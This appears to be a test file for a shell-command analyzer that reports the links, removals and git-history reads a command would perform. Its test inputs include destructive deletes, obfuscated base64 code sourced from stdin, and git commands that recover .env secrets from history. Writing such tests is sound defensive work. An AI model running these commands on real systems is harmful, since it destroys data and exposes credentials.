    expect((await first('ln -t d a b/c')).links).toEqual([
      { path: 'd/a', target: 'a', kind: 'hardlink' },
      { path: 'd/c', target: 'b/c', kind: 'hardlink' },
    ]);
    expect((await first('ln /etc/hosts')).links).toEqual([{ path: 'hosts', target: '/etc/hosts', kind: 'hardlink' }]);
  });

  it('cp -s, cp -l and a copy that keeps symlinks make links; a plain cp does not', async () => {
    expect((await first('cp -s a b')).links[0]).toEqual({ path: 'b', target: 'a', kind: 'symlink' });
    expect((await first('cp -l a b')).links[0]).toEqual({ path: 'b', target: 'a', kind: 'hardlink' });
    expect((await first('cp -a a b')).links[0]).toEqual({ path: 'b', target: 'a', kind: 'copy' });
    expect((await first('cp -rL a b')).links).toEqual([]);
    expect((await first('cp a b')).links).toEqual([]);
  });

  it('mv: the sources are removed, the destination takes their place', async () => {
    const mv = await first('mv a b dir');
    expect(mv.removes).toEqual(['a', 'b']);
    expect(mv.links).toEqual([
      { path: 'dir/a', target: 'a', kind: 'move' },
      { path: 'dir/b', target: 'b', kind: 'move' },
    ]);
  });

  it('rm, rmdir, unlink, shred and find -delete remove; a dynamic operand is left to dynamicWrites', async () => {
    expect((await first('rm -rf ~/.local/state build')).removes).toEqual(['~/.local/state', 'build']);
    expect((await first('rmdir a')).removes).toEqual(['a']);
    expect((await first('find ~/.cache -name x -delete')).removes).toEqual(['~/.cache']);
    const dynamic = await first('rm -rf "$DIR"');
    expect(dynamic.removes).toEqual([]);
    expect(dynamic.dynamicWrites).toEqual(['"$DIR"']);
    expect((await first('cat a')).removes).toEqual([]);
  });

  it('links made inside bash -c are reported on the nested command', async () => {
    const a = await analyzeShell(`bash -c 'ln -s /etc e && echo x > e/y'`);
    if (!a.ok) throw new Error(a.reason);
    expect(a.commands.flatMap((c) => c.links)).toContainEqual({ path: 'e', target: '/etc', kind: 'symlink' });
  });
});

describe('a script read from a stream is dynamic code (issue 19 §2)', () => {
  it.each(['bash /dev/stdin <<< "$X"', 'source /dev/stdin <<< "$(echo $T | base64 -d)"', '. /dev/fd/0 < payload', 'sh /proc/self/fd/0 <<< "$X"'])('%s is unsure', async (command) => {
    expect((await analyzeShell(command)).ok).toBe(false);
  });
  it('an ordinary script file is fine', async () => {
    expect((await analyzeShell('bash ./build.sh && . ./env.sh')).ok).toBe(true);
  });
});

describe('git: files printed from history, the index or the work tree (issue 19 §2)', () => {
  const revisions = async (command: string) => {
    const r = await analyzeShell(command);
    if (!r.ok) throw new Error(r.reason);
    return r.commands.flatMap((c) => c.revisionReads.map((x) => `${x.from}:${x.path}${x.glob ? ' (glob)' : ''}`));
  };

  it('REV:path is a path from the top of the repository; ./ and ../ make it relative to the folder', async () => {
    expect(await revisions('git show HEAD~1:.env')).toContain('top:.env');
    expect(await revisions('git cat-file -p HEAD~1:config/.env')).toContain('top:config/.env');
    expect(await revisions('git show :.env')).toContain('top:.env');
    expect(await revisions('git show :2:.env')).toContain('top:.env');
    expect(await revisions('git show HEAD:./.env')).toContain('cwd:./.env');
    // A revision holding a colon: every suffix is a candidate.
    expect(await revisions("git show 'HEAD^{/fix: typo}:.env'")).toContain('top:.env');
  });

  it('pathspecs after -- and operands before it, with pathspec magic', async () => {
    expect(await revisions('git log -p -- .env')).toEqual(['cwd:.env']);
    expect(await revisions('git grep SECRET HEAD~1 -- .env')).toEqual(['cwd:HEAD~1', 'cwd:.env']);
    expect(await revisions("git log -p -- ':(top).env'")).toEqual(['top:.env']);
    expect(await revisions("git log -p -- ':/.env'")).toEqual(['top:.env']);
    expect(await revisions("git log -p -- ':!.env'")).toEqual([]);
    expect(await revisions("git log -p -- '*.env'")).toEqual(['cwd:*.env (glob)']);
    expect(await revisions("git --literal-pathspecs log -p -- '*.env'")).toEqual(['cwd:*.env']);
    expect(await revisions('git diff --no-index /dev/null .env')).toEqual(['cwd:/dev/null', 'cwd:.env']);
    expect(await revisions('git blame .env')).toEqual(['cwd:.env']);
    expect(await revisions('git -C sub log -p -- .env')).toEqual(['cwd:.env', 'cwd:sub/.env']);
    const r = await analyzeShell('git -C ../other show HEAD:.env');
    expect(r.ok && r.commands[0]!.revisionReads.filter((x) => x.from === 'top')).toEqual([
      { path: '.env', from: 'top', glob: false },
      { path: '.env', from: 'top', glob: false, dir: '../other' },
    ]);
  });

  it("grep's pattern is not a path; an option's value is taken for one rather than hide one", async () => {
    expect(await revisions('git grep -n token_value HEAD')).toEqual(['cwd:HEAD']);
    expect(await revisions('git grep -e x -- src')).toEqual(['cwd:x', 'cwd:src']);
    expect(await revisions('git grep -A 3 pattern HEAD:.env')).toContain('top:.env');
    expect(await revisions('git log -n 3 HEAD:.env')).toContain('top:.env');
  });

  it('other git commands report nothing: refspecs and remotes are not paths', async () => {
    expect(await revisions('git push origin main:main')).toEqual([]);
    expect(await revisions('git fetch origin a:b')).toEqual([]);
    expect(await revisions('git commit -m "fix: a"')).toEqual([]);
    expect(await revisions('echo HEAD:.env')).toEqual([]);
  });

  it('a run-time operand is a dynamic read; names from standard input are unsure', async () => {
    const r = await analyzeShell('git show "$REV"');
    expect(r.ok && r.commands[0]!.dynamicReads).toEqual(['"$REV"']);
    for (const cmd of ['echo HEAD:.env | git cat-file --batch', 'git log -p --stdin', 'git log --pathspec-from-file=list']) {
      const u = await analyzeShell(cmd);
      expect(u.ok, cmd).toBe(false);
    }
    const blob = await analyzeShell('git cat-file -p 3b18e512dba79e4c8300dd08aeb37f8e728b8dad');
    expect(blob.ok && blob.commands[0]!.revisionReads).toEqual([{ path: '3b18e512dba79e4c8300dd08aeb37f8e728b8dad', from: 'object', glob: false }]);
    const check = await analyzeShell('git cat-file --batch-check < names');
    expect(check.ok).toBe(true);
  });
});
